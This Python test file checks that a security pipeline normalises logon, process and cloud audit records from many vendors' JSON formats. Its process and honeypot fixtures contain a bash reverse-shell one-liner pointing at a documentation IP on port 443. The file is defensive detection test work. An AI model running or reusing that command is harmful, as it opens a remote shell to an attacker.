"""JSON of directories, clouds and sensors on hosts, known by the names of its fields alone."""

import json
from pathlib import Path
from typing import Any

import pytest
from ingested import events, read

from pipeline.ingest.told.json_fields import flat
from pipeline.ingest.told.json_logons import json_logon
from schemas.dead_letter import DeadLetter

OUTSIDE = "203.0.113.7"
MICROSOFT = "Microsoft cloud"
TIME = "2026-11-20T10:00:00Z"
OKTA = {"published": TIME, "eventType": "user.session.start", "actor": {"alternateId": "anna"},
        "client": {"ipAddress": OUTSIDE}, "outcome": {"result": "FAILURE"}, "uuid": "1"}  # fmt: skip
ENTRA = {"time": TIME, "operationName": "Sign-in activity", "resultType": "50126", "callerIpAddress": OUTSIDE,
         "properties": {"userPrincipalName": "anna", "resourceDisplayName": "Mail"}}  # fmt: skip
M365 = {"CreationTime": "2026-11-20T10:00:00", "Operation": "UserLoginFailed", "Workload": "AzureActiveDirectory",
        "ClientIP": f"{OUTSIDE}:443", "UserId": "anna"}  # fmt: skip
GOOGLE = {"id": {"time": TIME, "applicationName": "login"}, "actor": {"email": "anna"}, "ipAddress": OUTSIDE,
          "events": [{"type": "login", "name": "login_failure"}]}  # fmt: skip
OCSF = {"class_uid": 3002, "activity_name": "Logon", "status": "Failure", "time": 1795168800000,
        "user": {"name": "anna"}, "src_endpoint": {"ip": OUTSIDE}, "device": {"hostname": "vpn-1"}}  # fmt: skip
FALCON = {"event_simpleName": "UserLogonFailed2", "timestamp": "1795168800000", "ComputerName": "pc-9",
          "UserName": "anna", "RemoteIP": OUTSIDE}  # fmt: skip
WAZUH = {"timestamp": "2026-11-20T10:00:00.000+0000", "agent": {"name": "web-1"}, "decoder": {"name": "sshd"},
         "data": {"srcip": OUTSIDE, "dstuser": "anna"},
         "full_log": f"Nov 20 10:00:00 web-1 sshd[7]: Failed password for anna from {OUTSIDE} port 4 ssh2"}  # fmt: skip


def one_of(folder: Path, record: dict[str, Any]) -> dict[str, Any]:
    (event,) = events(folder, "records.json", json.dumps(record) + "\n")
    return event


@pytest.mark.parametrize(
    ("record", "host"),
    [(OKTA, "Okta"), (ENTRA, MICROSOFT), (M365, MICROSOFT), (GOOGLE, "Google cloud"), (OCSF, "vpn-1"),
     (FALCON, "pc-9"), (WAZUH, "web-1")],
)  # fmt: skip
def test_a_logon_that_failed(tmp_path: Path, record: dict[str, Any], host: str | None) -> None:
    event = one_of(tmp_path, record)
    told = (event["ts"], event["kind"], event["action"], event["outcome"], event["user"], event["src_ip"])
    assert told == (1795168800.0, "auth", "logon", "failure", "anna", OUTSIDE)
    assert event.get("host") == host


@pytest.mark.parametrize(
    ("record", "outcome"),
    [
        ({**OKTA, "outcome": {"result": "SUCCESS"}}, "success"),
        ({**OKTA, "outcome": {"result": "CHALLENGE"}}, "unknown"),
        ({**ENTRA, "resultType": "0"}, "success"),
        ({**ENTRA, "resultType": 50140}, "unknown"),
        ({**ENTRA, "resultType": "50140", "event": {"outcome": "failure"}}, "unknown"),
        ({**M365, "Operation": "UserLoggedIn"}, "success"),
        ({**M365, "ResultStatus": "Failed"}, "failure"),
        ({"event": {"category": ["authentication"], "outcome": "success"}}, "success"),
        ({"event": {"action": "badge_login"}, "outcome": {"result": "SUCCESS"}}, "success"),
    ],
)
def test_how_a_logon_went(record: dict[str, Any], outcome: str) -> None:
    assert json_logon(flat(record)) == {"kind": "auth", "action": "logon", "outcome": outcome}


@pytest.mark.parametrize(
    "act",
    ["UpdateLoginProfile", "user.session.end", "policy.evaluate_sign_on", "user.mfa.factor.update",
     "ProcessRollup2", "AuthActivityAudit", "UNENROLL_STRONG_AUTH",
         "Add user.", "dialogue_in_progress", "catalog_index", ""],
)  # fmt: skip
def test_what_is_no_logon(act: str) -> None:
    assert json_logon({"eventType": act, "status": "FAILURE"}) is None


COMMAND = "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"
ELASTIC = {"@timestamp": TIME, "event": {"category": ["process"], "action": "exec"}, "host": {"name": "lx-4"},
           "process": {"executable": "/bin/bash", "command_line": COMMAND, "pid": 7,
                       "parent": {"executable": "/usr/sbin/apache2"}}, "user": {"name": "web"}}  # fmt: skip
DEFENDER = {"Timestamp": TIME, "ActionType": "ProcessCreated", "DeviceName": "lx-4", "FolderPath": "/bin/bash",
            "ProcessCommandLine": COMMAND, "AccountName": "web", "ProcessId": 7,
            "InitiatingProcessFolderPath": "/usr/sbin/apache2"}  # fmt: skip
FALCO = {"time": "2026-11-20T10:00:00.000000000Z", "rule": "Shell", "priority": "Warning", "hostname": "lx-4",
         "output": "10:00:00: Warning a shell", "output_fields": {
             "proc.cmdline": COMMAND, "proc.exepath": "/bin/bash", "proc.pid": 7, "user.name": "web",
             "proc.pexepath": "/usr/sbin/apache2"}}  # fmt: skip
OSQUERY = {"name": "pack", "hostIdentifier": "lx-4", "unixTime": 1795168800, "action": "added",
           "columns": {"cmdline": COMMAND, "path": "/bin/bash", "pid": "7", "username": "web"}}  # fmt: skip
ROLLUP = {"event_simpleName": "ProcessRollup2", "timestamp": "1795168800000", "ComputerName": "lx-4", "UserName": "web",
          "CommandLine": COMMAND, "ImageFileName": "/bin/bash", "RawProcessId": "7"}  # fmt: skip
ARGUMENTS = {**ELASTIC, "process": {"executable": "/bin/bash", "args": COMMAND.split(" "), "pid": 7}}


@pytest.mark.parametrize("record", [ELASTIC, DEFENDER, FALCO, OSQUERY, ROLLUP, ARGUMENTS])
def test_a_program_that_was_started(tmp_path: Path, record: dict[str, Any]) -> None:
    event = one_of(tmp_path, record)
    told = {name: event[name] for name in ("ts", "kind", "command_line", "image", "pid", "user", "host")}
    assert told == {"ts": 1795168800.0, "kind": "process", "command_line": COMMAND, "image": "/bin/bash", "pid": 7,
                    "user": "web", "host": "lx-4"}  # fmt: skip
    if record in (ELASTIC, DEFENDER, FALCO):
        assert event["parent_image"] == "/usr/sbin/apache2"


def test_what_is_typed_at_a_honeypot_is_a_command(tmp_path: Path) -> None:
    record = {"eventid": "cowrie.command.input", "timestamp": TIME, "input": COMMAND, "message": f"CMD: {COMMAND}",
              "sensor": "trap", "src_ip": "203.0.113.7", "session": "a1"}  # fmt: skip
    event = one_of(tmp_path, record)
    assert (event["kind"], event["command_line"], event["host"]) == ("process", COMMAND, "trap")


def test_windows_events_inside_a_wazuh_record(tmp_path: Path) -> None:
    provider = "Microsoft-Windows-Sysmon"
    system = {"providerName": provider, "eventID": "1", "channel": f"{provider}/Operational", "computer": "pc-7",
              "systemTime": "2026-11-20T10:00:00.0000000Z"}  # fmt: skip
    data = {"image": "C:\\x.exe", "commandLine": "x.exe /q", "parentImage": "C:\\y.exe"}
    win = {"win": {"system": system, "eventdata": data}}
    assert one_of(tmp_path, win)["command_line"] == "x.exe /q"
    event = one_of(tmp_path, {"timestamp": TIME, "agent": {"name": "pc-7"}, "data": win})
    assert (event["format"], event["kind"], event["host"], event["ts"]) == (
        "windows.sysmon",
        "process",
        "pc-7",
        1795168800.0,
    )
    assert (event["image"], event["command_line"], event["parent_image"]) == ("C:\\x.exe", "x.exe /q", "C:\\y.exe")


def test_a_trail_of_one_record_is_recognised(tmp_path: Path) -> None:
    record = {"eventTime": TIME, "eventName": "ConsoleLogin", "eventSource": "signin.example.com",
              "sourceIPAddress": OUTSIDE, "userIdentity": {"userName": "anna"},
              "responseElements": {"ConsoleLogin": "Failure"}}  # fmt: skip
    event = one_of(tmp_path, {"Records": [record]})
    assert (event["outcome"], event["user"], event["host"]) == ("failure", "anna", "signin.example.com")


def test_a_cloud_is_one_host_and_its_services_are_programs(tmp_path: Path) -> None:
    role = "arn:aws:sts::111122223333:assumed-role/backup"
    calls = [
        {"eventTime": TIME, "eventName": name, "eventSource": f"{service}.amazonaws.com",
         "userIdentity": {"type": "AssumedRole", "arn": f"{role}/botocore-session-170000000{n}"}}
        for n, (service, name) in enumerate((("iam", "CreateAccessKey"), ("cloudtrail", "StopLogging")))
    ]  # fmt: skip
    found = events(tmp_path, "trail.json", json.dumps({"Records": calls}))
    assert [(e["host"], e["program"], e["user"]) for e in found] == [
        ("AWS", "iam.amazonaws.com", role), ("AWS", "cloudtrail.amazonaws.com", role)
    ]  # fmt: skip


def test_an_audit_log_as_a_portal_exports_it(tmp_path: Path) -> None:
    record = {"CreationTime": "2026-11-20T10:00:00", "Operation": "New-InboxRule", "Workload": "Exchange",
              "UserId": "a@example.org", "Parameters": [{"Name": "ForwardTo", "Value": "x@example.net"}]}  # fmt: skip
    text = json.dumps(record).replace('"', '""')
    rows = f'RecordType,CreationDate,UserIds,Operations,AuditData\r\n1,20/11/2026,anna,x,"{text}"\r\n'
    (event,) = events(tmp_path, "AuditLog.csv", rows)
    assert (event["event_code"], event["user"], event["host"]) == ("New-InboxRule", "a@example.org", MICROSOFT)
    assert event["program"] == "Exchange"
    assert event["ts"] == 1795168800.0 and "ForwardTo" in event["message"]
    (refused,) = read(tmp_path, "broken.csv", 'RecordType,AuditData\n1,"{""a"": "\n')
    assert isinstance(refused, DeadLetter) and "not valid JSON" in refused.reason
    (refused,) = read(tmp_path, "other.csv", "a,b\n1,2\n", format="audit_table")
    assert isinstance(refused, DeadLetter) and "not valid JSON" in refused.reason


@pytest.mark.parametrize("count", [1, 1000, 20_000])
@pytest.mark.parametrize("indent", [None, 1])
def test_a_batch_of_a_cloud_of_any_size(tmp_path: Path, count: int, indent: int | None) -> None:
    record = {"eventTime": TIME, "eventName": "ConsoleLogin", "eventSource": "signin.amazonaws.com",
              "sourceIPAddress": OUTSIDE, "userIdentity": {"userName": "anna"},
              "responseElements": {"ConsoleLogin": "Failure"}}  # fmt: skip
    content = json.dumps({"Records": [record | {"eventID": f"e{n}"} for n in range(count)]}, indent=indent)
    found = events(tmp_path, "trail.json", content)
    assert len(found) == count
    assert {(one["kind"], one["outcome"], one["user"]) for one in found} == {("auth", "failure", "anna")}


_PAGE: dict[str, Any] = {"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#auditLogs/signIns"}
_NEXT = {"@odata.nextLink": "https://graph.microsoft.com/v1.0/auditLogs/signIns?$skiptoken=x"}


@pytest.mark.parametrize("count", [1, 2, 1000])
@pytest.mark.parametrize("indent", [None, 1])
@pytest.mark.parametrize(("before", "behind"), [({}, {}), (_PAGE, {}), (_PAGE | {"@odata.count": 9}, _NEXT)])
def test_a_page_of_microsoft_graph(
    tmp_path: Path, count: int, indent: int | None, before: dict[str, Any], behind: dict[str, Any]
) -> None:
    signin = {"createdDateTime": TIME, "userPrincipalName": "anna@example.org", "appDisplayName": "Portal",
              "ipAddress": OUTSIDE, "resourceDisplayName": "Mail", "status": {"errorCode": 50126}}  # fmt: skip
    rows = [signin | {"id": f"s{n}"} for n in range(count)]
    found = events(tmp_path, "signins.json", json.dumps({**before, "value": rows, **behind}, indent=indent))
    assert len(found) == count
    assert {(e["kind"], e["outcome"], e["user"], e["host"], e["src_ip"]) for e in found} == {
        ("auth", "failure", "anna@example.org", MICROSOFT, OUTSIDE)
    }


@pytest.mark.parametrize(
    ("record", "outcome"),
    [
        ({"Operation": "UserLoginFailed", "ResultStatus": "Success"}, "failure"),
        ({"eventType": "login", "status": 200}, "success"),
        ({"eventType": "login", "status": 401}, "failure"),
        ({"eventType": "sso_auth", "event.outcome": "failure"}, "failure"),
        ({"eventType": "auth-logon", "status": "logon"}, "success"),
        ({"eventType": "login"}, "unknown"),
    ],
)
def test_act_and_status_say_how_a_logon_went(record: dict[str, Any], outcome: str) -> None:
    assert json_logon(record) == {"kind": "auth", "action": "logon", "outcome": outcome}


def test_a_record_inside_a_text_of_json_is_read(tmp_path: Path) -> None:
    record = {"timestamp": "20261120100000.250", "action": "admin_login_error", "username": "anna",
              "description": json.dumps({"ip_address": OUTSIDE, "error": "disabled"})}  # fmt: skip
    event = one_of(tmp_path, record)
    assert (event["ts"], event["outcome"], event["src_ip"], event["user"]) == (
        1795168800.25,
        "failure",
        OUTSIDE,
        "anna",
    )


@pytest.mark.parametrize(
    "act", ["user_disconnected", "UserLogoff", "user.logged_out", "FSSO-logoff", "Sign-out", "userLogout"]
)
def test_the_end_of_a_session(act: str) -> None:
    assert json_logon({"eventType": act, "status": "SUCCESS"}) == {
        "kind": "auth", "action": "logoff", "outcome": "success",
    }  # fmt: skip
